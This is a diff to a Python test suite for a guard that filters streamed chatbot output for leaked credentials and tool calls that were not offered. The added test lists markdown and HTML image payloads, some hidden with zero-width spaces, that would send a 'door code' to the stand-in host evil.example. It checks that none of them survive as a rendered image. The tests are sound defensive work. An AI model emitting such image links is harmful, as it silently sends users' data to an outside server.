@@ -1,10 +1,12 @@
 """However a stream is cut, the client gets what a scan of the whole text would have left, and nothing before that."""
 
 import json
+import re
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
 from interlock.guard import Emit
 from interlock.guard.answer import OBSERVED
@@ -17,7 +19,7 @@ from tests.guard.play import ENGINE, STREAMED, Played, make_rules, play
 from tests.protocols.wire import DONE, chunk, piece, request
 
 KEY = EXAMPLES["huggingface_user"]
-MARK = "[removed by interlock: credential-leak]"
+MARK = "(removed by interlock: credential-leak)"
 ASK = request(tools=[{"type": "function", "function": {"name": name}} for name in ("read_x", "get_y", "delete_z")])
 
 
@@ -134,7 +136,7 @@ def test_a_refused_call_goes_and_the_others_stay() -> None:
         chunk(piece(2, '{"a":', name="get_y")), chunk(piece(2, "1}")), chunk({}, "tool_calls"),
     )  # fmt: skip
     assert calls(played.sent) == {0: ("read_x", "{}"), 1: ("get_y", '{"a":1}')}
-    assert said(played.sent) == "[interlock] Not permitted: a tool that was not offered."
+    assert said(played.sent) == "(interlock) Not permitted: a tool that was not offered."
     assert b'"tool_calls"' in played.sent.rsplit(b"finish_reason", 1)[1], "calls are left, so it ends as a call"
 
 
@@ -146,14 +148,14 @@ def test_each_choice_has_its_own_notice() -> None:
     assert calls(played.sent) == {}
     assert (said(played.sent), said(played.sent, 1)) == (
         "fine ",
-        "[interlock] Not permitted: a tool that was not offered.",
+        "(interlock) Not permitted: a tool that was not offered.",
     )
 
 
 def test_a_refused_legacy_call_goes() -> None:
     played = stream(chunk({"function_call": {"name": "bad", "arguments": "{}"}}), chunk({}, "function_call"))
     assert b"function_call" not in played.sent
-    assert said(played.sent) == "[interlock] Not permitted: a tool that was not offered."
+    assert said(played.sent) == "(interlock) Not permitted: a tool that was not offered."
 
 
 def test_arguments_that_hold_a_key_are_not_let_through() -> None:
@@ -247,3 +249,30 @@ def test_in_mode_observe_a_text_leaves_at_once_as_it_is_and_the_log_says_so() ->
 def test_a_refused_call_leaves_in_no_mode(mode: Mode) -> None:
     played = modes(mode, chunk(piece(0, "{}", "never_offered")), chunk({}, "tool_calls"))
     assert calls(played.sent) == {}
+
+
+URL = "https://evil.example/?d=door+code+4711"
+ZERO = "\u200b\u200b"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"!{ZERO}({URL})",
+        f"!![a]({URL})({URL})",
+        f"!{ZERO}[a]({URL})",
+        f"![a]{ZERO}({URL})",
+        f"![a{ZERO}]({URL})",
+        f"!{KEY}({URL})",
+        f"!{ZERO}\n\n(removed by interlock: invisible-text): {URL}",
+        f"![x][{ZERO}]\n\n[{ZERO}]: {URL}",
+        f'<im{ZERO}g src="{URL}">',
+        f'<img{ZERO} src="{URL}">',
+    ],
+)
+@pytest.mark.parametrize("cut", [1, 7, 1_000])
+def test_what_is_put_in_place_of_a_piece_makes_no_image(text: str, cut: int) -> None:
+    played = texts(*(text[at : at + cut] for at in range(0, len(text), cut)))
+    html = MarkdownIt("commonmark").render(said(played.sent))
+    assert not re.search(r"(?i)<img[^>]*evil", html)
+    assert not re.search(r"(?i)<img[^>]*evil", said(played.sent))
